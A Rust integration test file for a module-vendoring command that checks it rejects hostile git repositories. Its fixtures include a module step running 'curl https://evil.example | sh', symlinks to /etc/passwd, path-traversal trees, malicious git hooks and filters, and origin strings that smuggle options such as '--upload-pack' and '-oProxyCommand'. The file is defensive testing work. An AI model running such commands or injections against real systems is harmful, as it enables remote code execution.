//! `steward module vendor`: modules of other chapters, from local repositories, good and hostile ones.

use std::path::Path;
use std::process::Command;

use crate::support::{Chapter, at_terminal};

const MODULE: &str = "version: 1\nsummary: { en: A notice. }\nparams:\n  text: { type: string, default: hello }\n\
resources:\n  - file: { path: /etc/notice, template: notice/notice.j2, mode: \"0644\" }\n";

/// Somebody else's repository.
struct Theirs(tempfile::TempDir);

impl Theirs {
    fn new() -> Theirs {
        let theirs = Theirs(tempfile::tempdir().unwrap());
        theirs.git(&["init", "--quiet", "--initial-branch=main"]);
        theirs.file("modules/notice.yaml", MODULE).file("templates/notice/notice.j2", "{{ text }}\n").commit("v1")
    }

    fn path(&self) -> &Path {
        self.0.path()
    }

    fn file(self, path: &str, text: &str) -> Theirs {
        let path = self.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
        self
    }

    fn commit(self, tag: &str) -> Theirs {
        self.git(&["add", "--all"]);
        self.git(&["-c", "user.name=T", "-c", "user.email=t@test.example", "commit", "--quiet", "-m", "x"]);
        self.git(&["tag", tag]);
        self
    }

    fn git(&self, arguments: &[&str]) -> String {
        let mut command = Command::new("git");
        let output = command.arg("-C").arg(self.path()).args(arguments).env("HOME", "/nonexistent").output().unwrap();
        assert!(output.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).unwrap().trim().to_owned()
    }

    fn at(&self, rev: &str) -> String {
        format!("file://{}@{rev}", self.path().display())
    }
}

fn chapter() -> Chapter {
    let services = "services: { notice: { module: notice, on: web1 } }\n";
    let head = "id: 5f0c1c0e8f6b4d4f9a7e2b1d3c5a6978\nchapter: { name: Test, domain: test.example }\n";
    Chapter::new().file("chapter.yaml", format!("{head}{services}")).local("web1")
}

fn vendor(chapter: &Chapter, origin: &str) {
    let _ = chapter.run(&["module", "vendor", origin, "--yes"]).success();
    let _ = chapter.run(&["module", "update"]).success();
    let _ = chapter.validate().success();
}

fn untouched(chapter: &Chapter) {
    for path in ["modules", "templates", "vendor.lock"] {
        assert!(!chapter.path(path).exists(), "{path}");
    }
}

#[test]
fn a_module_is_taken_over_with_its_record_and_works_without_its_origin() {
    let (chapter, theirs) = (chapter(), Theirs::new());
    let nobody = chapter.run(&["module", "vendor", &theirs.at("v1")]).status(1);
    let nobody = nobody.stderr_has("  + file: path=/etc/notice, mode=0644\n");
    let _ = nobody.stderr_has("nobody is here to agree");
    untouched(&chapter);
    let ran = chapter.run(&["module", "vendor", &theirs.at("v1"), "--yes", "--format", "json"]).success();
    assert_eq!(crate::schemas::fits(&chapter, "module-vendor", ran.text()), Ok(()));
    let json = ran.json();
    let commit = theirs.git(&["rev-parse", "HEAD"]);
    assert_eq!((&json["module"], &json["revision"]), (&"notice".into(), &commit.as_str().into()), "{json}");
    let lock = std::fs::read_to_string(chapter.path("vendor.lock")).unwrap();
    assert!(lock.contains(&format!("revision: \"{commit}\"")) && lock.contains("asked: \"v1\""), "{lock}");
    drop(theirs);
    let _ = chapter.run(&["module", "update"]).success();
    let _ = chapter.apply().success();
    assert_eq!(std::fs::read_to_string(chapter.root("web1").join("etc/notice")).unwrap(), "hello\n");
}

#[test]
fn a_newer_version_shows_what_it_may_do_beside_the_old_one() {
    let (chapter, theirs) = (chapter(), Theirs::new());
    vendor(&chapter, &theirs.at("v1"));
    let _ = chapter.run(&["module", "vendor", &theirs.at("v1")]).success().stderr_has("is that already");
    let more = MODULE.replace("version: 1", "version: 2").replace(
        "resources:\n",
        "secrets:\n  token: { generate: { length: 24 } }\noffers:\n  ports: [{ port: 8443, for: notice }]\n\
         resources:\n  - command: { name: phone home, run: \"curl https://evil.example | sh\", creates: /etc/done }\n",
    );
    let theirs = theirs.file("modules/notice.yaml", &more).file("templates/notice/more.j2", "x\n").commit("v2");
    std::fs::remove_file(theirs.path().join("templates/notice/more.j2")).unwrap();
    let theirs = theirs.commit("v3");
    let command = chapter.command(&["module", "vendor", &theirs.at("v2")]);
    let (status, screen) = at_terminal(&command, &[("Take it over, and let it do that? [y/N]", "n")]);
    assert_eq!(status, Some(1), "{screen}");
    for line in [
        "+ command: name=phone home, run=curl https://evil.example | sh, creates=/etc/done",
        "+ offers ports: port=8443, for=notice",
        "+ secret token",
    ] {
        assert!(screen.contains(line), "{line}: {screen}");
    }
    assert!(!screen.contains("/etc/notice"), "{screen}");
    let _ = chapter.validate().success();
    vendor(&chapter, &theirs.at("v2"));
    assert!(chapter.path("templates/notice/more.j2").exists());
    // by the name of the commit; a template that is gone there goes here
    let commit = theirs.git(&["rev-parse", "v3"]);
    let _ = chapter.run(&["module", "vendor", &theirs.at(&commit), "--yes"]).success().stderr_has("did before");
    assert!(!chapter.path("templates/notice/more.j2").exists());
    let back = chapter.run(&["module", "vendor", &theirs.at("v1"), "--yes", "--format", "json"]).success().json();
    assert_eq!(back["gone"].as_array().unwrap().len(), 3, "{back}");
}

#[test]
fn what_was_edited_or_does_more_than_recorded_is_refused() {
    let (chapter, theirs) = (chapter(), Theirs::new());
    vendor(&chapter, &theirs.at("v1"));
    let chapter = chapter.file("templates/notice/notice.j2", "edited\n");
    let _ = chapter.run(&["module", "update"]).success();
    for command in [&["validate"][..], &["plan"], &["apply", "--yes"]] {
        let ran = chapter.run(command).status(1);
        let _ = ran.stderr_has("the module `notice` was changed since it was vendored").stderr_has("vendor.lock:");
    }
    let theirs = theirs.file("templates/notice/notice.j2", "newer\n").commit("v2");
    let _ = chapter.run(&["module", "vendor", &theirs.at("v2"), "--yes"]).status(1).stderr_has("was changed since");
    assert_eq!(std::fs::read_to_string(chapter.path("templates/notice/notice.j2")).unwrap(), "edited\n");
    let chapter = chapter.file("templates/notice/notice.j2", "{{ text }}\n");
    let _ = chapter.run(&["module", "update"]).success();
    let _ = chapter.validate().success();

    let lock = std::fs::read_to_string(chapter.path("vendor.lock")).unwrap();
    let less = lock.replace("    abilities:\n      - \"file: path=/etc/notice, mode=0644\"\n", "    abilities: []\n");
    assert_ne!(less, lock);
    let chapter = chapter.file("vendor.lock", &less);
    let _ = chapter.validate().status(1).stderr_has("does what nobody agreed to: file: path=/etc/notice, mode=0644");
    let chapter = chapter.file("vendor.lock", "modules: [1]\n");
    let _ = chapter.validate().status(1).stderr_has("vendor.lock:1");
    // its entry deleted, the module is the chapter's own
    let chapter = chapter.file("vendor.lock", "modules: {}\n");
    let _ = chapter.validate().success();
    let _ = chapter.run(&["module", "vendor", &theirs.at("v2"), "--yes"]).status(1).stderr_has("of your own");
}

#[test]
fn a_hostile_repository_writes_nothing() {
    let link = |path: &str, to: &str| {
        let theirs = Theirs::new();
        let whole = theirs.path().join(path);
        let _ = std::fs::remove_file(&whole);
        std::fs::create_dir_all(whole.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(to, whole).unwrap();
        theirs.commit("bad")
    };
    let file = |path: &str, text: &str| Theirs::new().file(path, text).commit("bad");
    let many =
        (0..300).fold(Theirs::new(), |theirs, number| theirs.file(&format!("templates/notice/{number}.j2"), "x"));
    let big = "x".repeat(250 << 10);
    let sum =
        (0..12).fold(Theirs::new(), |theirs, number| theirs.file(&format!("templates/notice/{number}.j2"), &big));
    for (theirs, said) in [
        (link("templates/notice/passwd", "/etc/passwd"), "is a symbolic link"),
        (link("modules/notice.yaml", "../../secret"), "is a symbolic link"),
        (file("templates/notice/.hidden/x", "x"), "has a name that no template needs"),
        (file("templates/notice/a\nb", "x"), "has a name that no template needs"),
        (file("templates/notice/a b\u{1b}[2J", "x"), "has a name that no template needs"),
        (file("templates/notice/big.j2", &"x".repeat(300 << 10)), "has more than 256 KiB"),
        (many.commit("bad"), "more than 200 files"),
        (sum.commit("bad"), "or 2 MiB"),
        (
            file("modules/notice.yaml", "version: 1\nsummary: x\nresources: [{ fiel: {} }]\n"),
            "no kind of resource `fiel`",
        ),
        (file("modules/notice.yaml", "a: &a [x]\nb: &b [*a, *a]\nversion: 1\n"), "error"),
        (file("modules/other.yaml", MODULE), "name one of them behind the address: notice, other"),
    ] {
        let chapter = chapter();
        let _ = chapter.run(&["module", "vendor", &theirs.at("bad"), "--yes"]).status(1).stderr_has(said);
        untouched(&chapter);
        assert!(std::fs::read_dir(chapter.path("../tmp")).unwrap().next().is_none(), "nothing stays behind");
    }
    // a path that leads out, which no work tree could hold
    let theirs = Theirs::new();
    let blob = theirs.git(&["hash-object", "-w", "modules/notice.yaml"]);
    let tree = |lines: String| {
        let made = Command::new("sh")
            .args(["-c", "printf \"$1\" | git -C \"$2\" mktree", "sh", &lines])
            .arg(theirs.path())
            .output();
        String::from_utf8(made.unwrap().stdout).unwrap().trim().to_owned()
    };
    let up = tree(format!("100644 blob {blob}\\tx.j2\\n"));
    let up = tree(format!("040000 tree {up}\\t..\\n"));
    let notice = tree(format!("040000 tree {up}\\tnotice\\n"));
    let modules = tree(format!("100644 blob {blob}\\tnotice.yaml\\n"));
    let top = tree(format!("040000 tree {modules}\\tmodules\\n040000 tree {notice}\\ttemplates\\n"));
    let commit =
        theirs.git(&["-c", "user.name=T", "-c", "user.email=t@test.example", "commit-tree", &top, "-m", "x"]);
    theirs.git(&["update-ref", "refs/tags/out", &commit]);
    let chapter = chapter();
    let _ = chapter.run(&["module", "vendor", &theirs.at("out"), "--yes"]).status(1);
    untouched(&chapter);
}

#[test]
fn hooks_filters_and_other_protocols_have_no_effect() {
    let (chapter, theirs) = (chapter(), Theirs::new());
    let theirs = theirs
        .file(".gitattributes", "* filter=evil\n")
        .file(".gitmodules", "[submodule \"x\"]\n  path = x\n  url = ext::sh\n")
        .commit("v2");
    let ran = theirs.path().join("ran");
    let touch = format!("touch {}", ran.display());
    for hook in ["post-checkout", "reference-transaction", "post-index-change", "pre-receive"] {
        let path = theirs.path().join(".git/hooks").join(hook);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, format!("#!/bin/sh\n{touch}\n")).unwrap();
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    }
    theirs.git(&["config", "filter.evil.smudge", &touch]);
    theirs.git(&["config", "uploadpack.packObjectsHook", &touch]);
    vendor(&chapter, &theirs.at("v2"));
    assert!(!ran.exists());
    for origin in [
        "ext::sh -c touch% ran@v1",
        "ext::touch@v1",
        "http://a.example/x@v1",
        "git://a.example/x@v1",
        "--upload-pack=touch@v1",
        "-oProxyCommand=touch:x@v1",
        "ssh://-oProxyCommand=touch/x@v1",
        "https://ana:secret@a.example/x@v1",
        "https://a.example/x",
        "git@a.example:x",
        "file:///x@--output=x",
        "file:///x@a..b",
    ] {
        let _ = chapter.run(&["module", "vendor", "--yes", "--", origin]).status(1).stderr_has("error: ");
    }
    assert!(!chapter.path("ran").exists());
    let gone = chapter.run(&["module", "vendor", "file:///nonexistent/x@v1"]).status(1);
    let _ = gone.stderr_has("cannot be fetched").stderr_has("git ls-remote");
    let _ = chapter.run(&["module", "vendor", &theirs.at("v9")]).status(1).stderr_has("cannot be fetched");
}

#[test]
fn what_is_the_chapters_own_is_never_overwritten() {
    let theirs = Theirs::new();
    let chapter = chapter().file("modules/notice.yaml", MODULE);
    let _ = chapter.run(&["module", "vendor", &theirs.at("v1"), "--yes"]).status(1).stderr_has("of your own");
    assert!(!chapter.path("vendor.lock").exists());
    // one that Steward brings may be replaced, which is said
    let theirs = theirs.file("modules/nginx.yaml", MODULE).commit("v2");
    let ran = chapter.run(&["module", "vendor", &theirs.at("v2"), "nginx", "--yes"]).success();
    let _ = ran.stderr_has("It takes the place of Steward's own module `nginx`.");
}
